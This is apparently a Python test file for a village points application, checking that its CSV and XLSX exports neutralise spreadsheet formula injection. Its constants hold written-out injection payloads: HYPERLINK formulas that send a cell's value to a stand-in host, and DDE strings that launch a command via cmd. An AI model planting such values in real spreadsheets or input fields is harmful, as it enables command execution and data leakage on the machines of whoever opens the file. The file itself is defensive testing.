"""Formula injection in exports (issue 10, item 2): texts typed by one person that begin like a
formula (a rule title, an item name, a reversal reason, a roster name) must reach the
supervisor's spreadsheet as text — never as a formula cell in the XLSX, and with OWASP's
leading ``'`` in the CSV — while the text itself stays readable and numbers stay numbers."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from moralbank.export_safety import csv_value, is_formula_like
from moralbank.people.models import Area, Household
from moralbank.people.service import mask_name
from support import session_of

API = "/api/v1"
#: planted by a committee member, a clerk's committee, a roster file: each a live formula before the fix
RULE_TITLE = '=HYPERLINK("http://e.x/?"&C2,"点我")'
WIDE_RULE_TITLE = "＝HYPERLINK(\"http://e.x/\")"
ITEM_NAME = "@SUM(1+9)*cmd|' /C calc'!A0"
REVERSAL_REASON = "-2+3+cmd|' /C calc'!A0"
HEAD_NAME = '+HYPERLINK("http://e.x")'
#: a deduction: its title begins with "-" but its points, also negative, must stay a number
DEDUCTION_TITLE = "-3 乱倒垃圾"
ROSTER_HEADER = ["户号", "户主", "屯组", "电话", "身份证号", "家庭成员"]


def ok(response, status=200):
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:500])
    return response.get_json()


def test_the_helper_neutralises_formula_leads_and_leaves_numbers_alone():
    for text in ("=1+1", "+1", "-1+1", "@A1", "\tx", "\rx", "＝1", "＋1", "－1", "＠A1"):
        assert is_formula_like(text) and csv_value(text) == "'" + text
    for value in (-5, 0, 3.5, None, "", "义务献血", "1-2", "a=b", "'=already"):
        assert csv_value(value) == value


def plant(app, api, client, runner, tmp_path) -> dict:
    """Plant every malicious text through the real CLI and API; return what the exports must show."""
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([ROSTER_HEADER, ["BLM-201", HEAD_NAME, "八里庙屯", "", "", ""]])
    result = runner.invoke(args=["import-households", str(roster), "--village", "BLM"])
    assert result.exit_code == 0, result.output
    with session_of(app) as session:
        village = session.scalar(select(Area).where(Area.code == "BLM"))
        planted = session.scalar(select(Household.id).where(Household.village_id == village.id,
                                                            Household.number == "BLM-201"))
    resident = ok(api.get(f"{API}/me", "resident"))["household"]["id"]
    ok(client.patch(f"{API}/villages/BLM", json={"notice_days": 0}, headers=api.headers("committee")))

    transfers = {}
    for title in (RULE_TITLE, WIDE_RULE_TITLE):
        rule = ok(api.post(f"{API}/villages/BLM/rules", "committee",
                           json={"category": "volunteer", "title": title, "points": 5}), 201)
        for household in (planted, planted, resident):
            award = ok(api.post(f"{API}/awards", "grid", json={"household_id": household, "rule_id": rule["id"]}),
                       201)
            transfers.setdefault(title, []).append(
                ok(api.post(f"{API}/awards/{award['id']}/approve", "committee"))["transfer_id"])
    ok(api.post(f"{API}/transfers/{transfers[RULE_TITLE][0]}/reversal", "committee",
                json={"reason": REVERSAL_REASON}), 201)
    fine = ok(api.post(f"{API}/villages/BLM/rules", "committee",
                       json={"category": "deduction", "title": DEDUCTION_TITLE, "points": -3}), 201)
    award = ok(api.post(f"{API}/awards", "grid", json={"household_id": planted, "rule_id": fine["id"]}), 201)
    ok(api.post(f"{API}/awards/{award['id']}/approve", "committee"))

    store = ok(api.get(f"{API}/me", "clerk"))["store"]["id"]
    item = ok(api.post(f"{API}/stores/{store}/items", "committee",
                       json={"name": ITEM_NAME, "points": 1, "stock": 5}), 201)
    code = ok(api.post(f"{API}/redemption-codes", "resident"), 201)["code"]
    ok(api.post(f"{API}/stores/{store}/redemptions", "clerk",
                json={"code": code, "items": [{"item_id": item["id"], "quantity": 1}]}), 201)
    return {"store": store}


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_planted_formulas_reach_every_export_as_text(app, api, client, runner, auth, tmp_path):
    store = plant(app, api, client, runner, tmp_path)["store"]
    expected = {
        "awards": {HEAD_NAME, RULE_TITLE, WIDE_RULE_TITLE, DEDUCTION_TITLE},
        "transfers": {RULE_TITLE, WIDE_RULE_TITLE, REVERSAL_REASON, DEDUCTION_TITLE},
        "rankings": {mask_name(HEAD_NAME)},
    }
    auth.login("committee")
    downloads = {}
    for kind in expected:
        for fmt in ("xlsx", "csv"):
            response = client.get(f"/exports/{kind}.{fmt}?period=all")
            assert response.status_code == 200, (kind, fmt, response.status_code)
            downloads[kind, fmt] = response.data
    response = client.get(f"/stores/{store}/statement.xlsx")
    assert response.status_code == 200
    downloads["statement", "xlsx"] = response.data
    expected["statement"] = {f"{ITEM_NAME}×1"}

    for (kind, fmt), data in downloads.items():
        if fmt == "xlsx":
            cells = xlsx_cells(data)
            formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
            assert not formulas, f"{kind}.xlsx holds formulas: {formulas}"
            texts = {cell.value for cell in cells if isinstance(cell.value, str)}
            # the text reads exactly as typed, marked as text for Excel
            assert expected[kind] <= texts, (kind, expected[kind] - texts)
            assert all(cell.quotePrefix for cell in cells if cell.value in expected[kind])
            if kind == "awards":  # the deduction's points are still a negative number
                points = [row[6].value for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
                assert all(isinstance(value, int) for value in points) and -3 in points
        else:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
            fields = {field for row in rows for field in row}
            assert {"'" + text for text in expected[kind]} <= fields, (kind, fields)
            # nothing else is left formula-like, except numbers (a negative number is a number)
            assert not [field for field in fields if is_formula_like(field) and not field.lstrip("-").isdigit()]
            if kind == "awards":
                assert "-3" in [row[6] for row in rows[1:]]
